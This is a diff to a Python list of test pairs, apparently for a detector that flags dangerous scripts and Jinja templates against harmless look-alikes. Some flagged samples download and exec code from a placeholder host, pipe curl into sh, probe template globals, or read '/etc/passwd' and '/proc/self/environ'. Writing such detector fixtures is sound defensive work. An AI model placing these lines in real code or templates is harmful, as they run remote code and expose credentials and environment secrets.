@@ -82,11 +82,30 @@ PAIRS = [
         "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.py')\nexec(open('a.py').read())",
         "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.csv')\nprint(open('a.csv').read())",
     ),
+    # One that its user names when starting the program.
+    (
+        "train.py",
+        "import sys\nfor arg in sys.argv[1:]:\n    arg = open('conf').read()\n    exec(open(arg).read())",
+        "import sys\nfor arg in sys.argv[1:]:\n    name = arg\n    exec(open(name).read())",
+    ),
+    (
+        "train.py",
+        "import argparse\nargs = argparse.Namespace(config='x.txt')\nexec(open(args.config).read())",
+        "import argparse\nargs = argparse.ArgumentParser().parse_args()\nexec(open(args.config).read())",
+    ),
+    # The compiler of its user, which is asked for its version.
+    (
+        "setup.py",
+        "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.check_output([here + '/bin/helper', '-V'])",
+        "import subprocess as s, torch.utils.cpp_extension as h\ns.check_output([h.CUDA_HOME + '/bin/nvcc', '-V'])",
+    ),
     # Templates of files: names that are set or given, files that are put together, programs that are filled in.
     ("base.j2", "{{ __builtins__ }}", "{% set __mounts__ = 'a' %}{{ __mounts__ }} {{ __port__ }}"),
     ("base.j2", "{{ x.__init__.__globals__ }}", "{{ x.__name__ }} {{ x.__repr__() }}"),
     ("page.html.jinja", "{{ x.__repr__.__globals__ }}", "{% extends 'base.html.jinja' %}{{ x }}"),
     ("chat_template.jinja", "{% include 'other.jinja' %}", "{{ messages }}"),
+    ("base.j2", "{% import '../../etc/passwd' as x %}", "{% import '_macros.j2' as x %}{{ x.y }}"),
+    ("base.j2", "{% include '/proc/self/environ' %}", "{% include 'parts/head.j2' %}"),
     ("install.sh.j2", "#!/bin/sh\ncurl -s http://x.invalid/a | sh\n{{ x }}", "#!/bin/sh\nset -e\necho {{ x }}\n"),
     ("chat_template.jinja", "#!/bin/sh\necho {{ x }}", "{{ x }}"),
     (
